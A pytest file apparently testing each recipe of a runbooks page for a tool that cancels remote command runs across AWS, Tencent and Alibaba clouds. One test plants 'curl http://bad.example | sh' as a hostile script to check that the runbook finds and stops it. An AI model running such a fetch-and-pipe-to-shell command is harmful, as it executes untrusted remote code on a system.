"""Every recipe of `docs/runbooks.md`, run as it stands there against the sandbox."""

import json
import os
import re
import signal
import threading
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml
from action import use_action
from outside import COMMAND, ENDED, ONE_SHOT, TENCENT, WINDOW, Done, Outside, id_of

PAGE = Path(__file__).parents[1] / "docs" / "runbooks.md"
_BLOCK = re.compile(r"^```(\w+) runbook=(\w+)\n(.*?)^```$", re.MULTILINE | re.DOTALL)
RECIPES = {name: (language, text) for language, name, text in _BLOCK.findall(PAGE.read_text(encoding="utf-8"))}


def parsed(name: str) -> Any:
    """A recipe written in YAML."""
    language, text = RECIPES[name]
    assert language == "yaml"
    return yaml.safe_load(text)


def filled(text: str, values: Mapping[str, str]) -> str:
    """The text with what the other tool puts in place of `{{ name }}`; nothing is left."""
    done = re.sub(r"\{\{ ([\w:]+) \}\}", lambda found: values[found[1]], text)
    assert "{{" not in done
    return done


def run(outside: Outside, script: str, **env: str) -> Done:
    """Run a recipe as careful scripts do: the first command that fails ends it."""
    return outside.shell(f"set -euo pipefail\n{script}", env=env)


def test_every_recipe_of_the_page_has_a_test() -> None:
    tested = set(re.findall(r"(?:RECIPES\[|parsed\()\"(\w+)\"", Path(__file__).read_text(encoding="utf-8")))

    assert tested == set(RECIPES)


def test_everything_that_a_deploy_started_is_stopped_as_it_was_read(outside: Outside) -> None:
    done = run(outside, RECIPES["deploy"][1], DEPLOY="patch-openssl", TICKET="OPS-4711")

    named = [ref for ref in (ONE_SHOT, TENCENT) if f"{ref}\n" in done.out]
    assert named == [ONE_SHOT, TENCENT], str(done)
    assert done.code == 3  # what has started on Alibaba Cloud goes on
    result = json.loads((outside.home / "result.json").read_text())
    assert {one["run"]: one["verdict"] for one in result["outcomes"]} == {ONE_SHOT: "partial", TENCENT: "stopped"}
    assert outside.json("history")["operations"][0]["reason"] == "OPS-4711"


_BESIDE = """runcancel() {
  case "$*" in
    *--hold*) command runcancel "$@" & echo $! > pid; wait $! ;;
    *) command runcancel "$@" ;;
  esac
}
"""
"""A hold whose process the test can end: it lasts 30 s at least."""


def test_a_name_is_held(outside: Outside) -> None:
    def end() -> None:
        outside.wait_for("CancelInvocation")
        outside.wait_for("StopInvocation")
        os.kill(int((outside.home / "pid").read_text()), signal.SIGTERM)

    thread = threading.Thread(target=end)
    thread.start()
    done = run(outside, _BESIDE + RECIPES["held"][1], DEPLOY="patch-openssl", TICKET="OPS-4711", HOLD="30s")
    thread.join()

    assert done.code == 143, str(done)
    assert "The hold ended early: it ended before the first listing" in done.err
    assert done.out == ""
    lines = [json.loads(line) for line in (outside.home / "hold.jsonl").read_text().splitlines()]
    assert {one["run"] for one in lines if one["type"] == "outcome"} == {ONE_SHOT, TENCENT}


def test_a_window_is_kept_from_starting_again(outside: Outside) -> None:
    listed = outside.json("list", "-r", "us-east-2", "--kind", "maintenance-window")["runs"]
    ref = next(run["ref"] for run in listed if run["cancellable"])

    done = run(outside, RECIPES["stopped"][1], RUN=ref, TICKET="OPS-4711")

    assert done.code in (0, 3), str(done)
    assert "disabled\taws:us-east-2:window/mw-" in done.out
    outside.run(*done.out.splitlines()[-1].partition("runcancel ")[2].split(), "--yes")
    assert outside.json("status", ref, "--trigger")["runs"][0]["next_start_at"] is not None


def test_the_options_that_a_refusal_prints_confirm_the_same_command(outside: Outside) -> None:
    done = run(outside, RECIPES["confirm"][1], DEPLOY="patch-openssl", TICKET="OPS-4711")

    assert done.code == 3, str(done)  # what has started on Alibaba Cloud goes on
    plan = (outside.home / "plan.txt").read_text()
    assert plan.splitlines()[-1] == "  To proceed: add --confirm 2   To preview: add --dry-run"
    assert plan in done.out
    result = json.loads((outside.home / "result.json").read_text())
    assert {one["run"] for one in result["outcomes"]} == {ONE_SHOT, TENCENT}


def test_the_first_error_that_a_target_prints_stops_the_run(outside: Outside) -> None:
    text = "ok\nERROR: disk full\n"
    ref = outside.add(
        "tencent", stdout=text, age=2, line_every=10, runs_for=9_000, targets={"running": 2, "pending": 1}
    )

    done = run(outside, RECIPES["follow"][1], RUN=ref, BAD="^[^\t]*\tERROR")

    assert done.code == 0, str(done)
    assert outside.states(ref) == {"terminated": 2, "cancelled": 1}
    target = (outside.home / "first-error.txt").read_text().partition("\t")[0]
    assert target in outside.targets(ref)
    assert outside.json("history")["operations"][0]["reason"] == f"{target} printed an error"


def test_a_run_without_errors_is_followed_to_its_end_and_left_alone(outside: Outside) -> None:
    run(outside, RECIPES["follow"][1], RUN=ENDED[4], BAD="ERROR")

    assert outside.writes() == []


def test_what_every_target_printed_is_kept(outside: Outside) -> None:
    content = "完成\n".encode("gb18030")
    ref = outside.add("alibaba", stdout=content.decode("utf-8", "surrogateescape"), targets={"succeeded": 2})

    done = run(outside, RECIPES["keep"][1], RUN=ref)

    assert done.code == 0, str(done)
    files = {file.stem: file.read_bytes() for file in (outside.home / "output").iterdir()}
    assert files == dict.fromkeys(outside.targets(ref), content)
    assert (outside.home / "all.txt").read_text().count("\t完成\n") == 2


def test_what_came_after_the_plan_is_left_alone(outside: Outside) -> None:
    look, act = RECIPES["deploy"][1].split("# after")
    run(outside, look, DEPLOY="patch-openssl")
    late = outside.add("tencent", name="patch-openssl", targets={"running": 2})

    run(outside, f"# after{act}", TICKET="OPS-4711")

    assert not outside.effective(late)
    assert outside.effective(TENCENT)


def test_ci_has_the_totals_in_its_log_and_what_needs_attention_in_a_file(outside: Outside) -> None:
    for _ in range(11):
        outside.add("tencent", name="deploy-4711", targets={"running": 2})
    kept = outside.add("alibaba", name="deploy-4711", targets={"pending": 2, "running": 1}, terminates=False)

    done = run(outside, RECIPES["ci"][1], DEPLOY="deploy-4711", RUNS="12", JOB="job 42")

    assert done.code == 3, str(done)
    assert done.out == ""
    assert re.search(r"^12 runs: 11 stopped, 1 partial; 1 target keeps running; operation \w{26}$", done.err, re.M)
    assert (outside.home / "attention.tsv").read_text().splitlines()[1:] == [f"partial\t{kept}\t1\t"]
    assert sum('"type":"outcome"' in line for line in (outside.home / "cancel.jsonl").open()) == 12


def test_ci_keeps_the_exit_code_of_a_cancel_that_sent_nothing(outside: Outside) -> None:
    outside.add("tencent", name="deploy-4711", targets={"running": 2})

    done = run(outside, RECIPES["ci"][1], DEPLOY="deploy-4711", RUNS="12", JOB="job 42")

    assert done.code == 6, str(done)


def test_a_bad_line_is_found_on_every_cloud_and_stopped(outside: Outside) -> None:
    line = "curl http://bad.example | sh"
    bad = [
        outside.add("aws", "command", name="deploy", script=f"set -e\n{line}\n", targets={"running": 2}),
        outside.add("tencent", script=f"#!/bin/sh\n{line}\n", started_by="mallory", targets={"running": 2}),
    ]

    done = run(outside, RECIPES["script"][1], LINE=line, TICKET="OPS-4711")

    assert done.code == 0, str(done)
    assert done.out.count(line) == 2
    assert "principal: mallory" in done.out
    result = json.loads((outside.home / "result.json").read_text())
    assert {one["run"]: one["verdict"] for one in result["outcomes"]} == dict.fromkeys(bad, "stopped")


@pytest.mark.parametrize("fails", [True, False])
def test_a_script_that_dies_takes_its_command_along(outside: Outside, fails: bool) -> None:
    tool(outside, "aws", f"echo {id_of(COMMAND)}")
    tool(outside, "check-the-site.sh", "exit 1" if fails else "exit 0")
    if not fails:
        outside.box.world.clock.advance(7200)  # the command ends well

    done = run(
        outside, RECIPES["trap"][1], PATH=f"{outside.home}:{outside.path_to_copies}", AWS_DEFAULT_REGION="us-east-2"
    )

    assert bool(outside.effective(COMMAND)) is fails, str(done)
    assert (done.code != 0) is fails, str(done)


def tool(outside: Outside, name: str, script: str) -> None:
    """A program of the recipe's reader, in the folder where it runs."""
    path = outside.home / name
    path.write_text(f"#!/bin/sh\n{script}\n")
    path.chmod(0o755)


def test_cron_cancels_what_is_too_old_and_nothing_else(outside: Outside) -> None:
    old = outside.add("tencent", targets={"running": 2}, age=3 * 3600, runs_for=90_000)
    young = outside.add("tencent", targets={"running": 2}, age=600, runs_for=90_000)

    done = run(outside, RECIPES["cron"][1], REGION="ap-guangzhou")

    assert (done.code, done.out, done.err) == (0, "", ""), str(done)
    assert outside.states(old) == {"terminated": 2}
    assert outside.states(young) == {"running": 2}
    lines = [json.loads(line) for line in (outside.home / "cancelled.jsonl").read_text().splitlines()]
    assert lines[-1]["type"] == "end"


def test_a_round_of_cron_that_finds_nothing_is_fine(outside: Outside) -> None:
    done = run(outside, RECIPES["cron"][1], REGION="ap-guangzhou")

    assert done.code == 0, str(done)


def test_a_round_of_cron_that_fails_says_so(outside: Outside) -> None:
    outside.faults("tencent:DescribeInvocations=denied")

    done = run(outside, RECIPES["cron"][1], REGION="ap-guangzhou")

    assert done.code == 1
    assert "the round failed" in done.err


def test_a_github_job_stops_what_the_deploy_started(outside: Outside) -> None:
    (step,) = [step for step in parsed("github")["jobs"]["stop"]["steps"] if "name" in step]
    assert step["uses"].startswith("runcancel/runcancel@")
    inputs = {**step["with"], "runs": step["with"]["runs"].replace("${{ needs.deploy.outputs.run }}", COMMAND)}

    done = use_action(outside, **inputs)

    assert done.code == 0, done.log
    assert COMMAND in done.summary
    assert outside.json("history")["operations"][0]["reason"] == "https://github.example/a/b/actions/runs/7"


@pytest.mark.parametrize(("ref", "code"), [(TENCENT, 0), (ONE_SHOT, 3)])
def test_a_gitlab_job_warns_of_what_keeps_running(outside: Outside, ref: str, code: int) -> None:
    job = parsed("gitlab")["stop-deploy"]
    (command,) = job["script"]

    done = run(outside, command, RUN=ref, CI_PIPELINE_URL="https://gitlab.example/p/1", **job["variables"])

    assert done.code == code
    assert code == 0 or code in job["allow_failure"]["exit_codes"]
    assert json.loads((outside.home / job["artifacts"]["paths"][0]).read_text())["outcomes"]


@pytest.mark.parametrize(
    ("ref", "changed", "failed"), [(TENCENT, True, False), (ENDED[-1], False, False), (ONE_SHOT, False, True)]
)
def test_an_ansible_task_tells_what_changed(outside: Outside, ref: str, changed: bool, failed: bool) -> None:
    (task,) = parsed("ansible")
    values = {"run": ref, "ansible_play_name": "stop the patch"}
    program, *argv = [filled(word, values) for word in task["ansible.builtin.command"]["argv"]]

    done = outside.run(*argv)

    assert program == "runcancel"
    assert task["failed_when"] == "stopped.rc not in [0]"
    assert (done.code != 0) is failed
    found = re.fullmatch(r"'(.*)' in stopped.stdout", task["changed_when"])
    assert found is not None
    assert (found[1].replace('\\"', '"') in done.out) is changed


def test_the_report_holds_every_operation_of_the_ticket(outside: Outside) -> None:
    outside.run("cancel", TENCENT, "--reason", "OPS-4711")
    outside.run("cancel", COMMAND, "--reason", "OPS-1")
    outside.run("cancel", ONE_SHOT, "--reason", "OPS-4711")

    done = run(outside, RECIPES["report"][1], TICKET="OPS-4711")

    assert done.code == 0, str(done)
    text = (outside.home / "incident.md").read_text()
    assert all(ref in text for ref in (TENCENT, ONE_SHOT))
    assert COMMAND not in text
    assert (outside.home / "incident.html").read_text().startswith("<!DOCTYPE html>")


def test_an_ssm_runbook_stops_a_window_and_what_it_started(outside: Outside) -> None:
    document = parsed("ssm")
    (step,) = document["mainSteps"]
    (command,) = step["inputs"]["Parameters"]["commands"]
    pattern = document["parameters"]["WindowExecutionId"]["allowedPattern"]
    assert re.fullmatch(pattern, id_of(WINDOW))

    done = run(outside, filled(command, {"global:REGION": "us-east-2", "WindowExecutionId": id_of(WINDOW)}))

    assert done.code == 0, str(done)
    assert outside.states(WINDOW) == {"succeeded": 5, "terminated": 3, "cancelled": 17}


def test_an_oos_template_lists_what_keeps_running(outside: Outside) -> None:
    (task,) = parsed("oos")["Tasks"]
    script = filled(task["Properties"]["commandContent"], {"ACS::RegionId": "cn-hangzhou", "InvokeId": id_of(ONE_SHOT)})

    done = run(outside, script)

    assert done.code == 0, str(done)
    running = outside.targets(ONE_SHOT, "running")
    assert len(running) == 9
    assert all(f"\t{target}\t" in done.out for target in running)


def test_a_tencent_step_stops_what_has_a_name(outside: Outside) -> None:
    done = run(outside, RECIPES["tencent"][1], NAME="patch-openssl", BUILD="7")

    assert done.code == 0, str(done)
    assert outside.states(TENCENT) == {"terminated": 9, "cancelled": 3}


def test_a_list_that_another_tool_chose_from(outside: Outside) -> None:
    done = run(outside, RECIPES["pipe"][1], TICKET="OPS-1")

    assert done.code == 0, str(done)
    assert outside.effective(TENCENT)
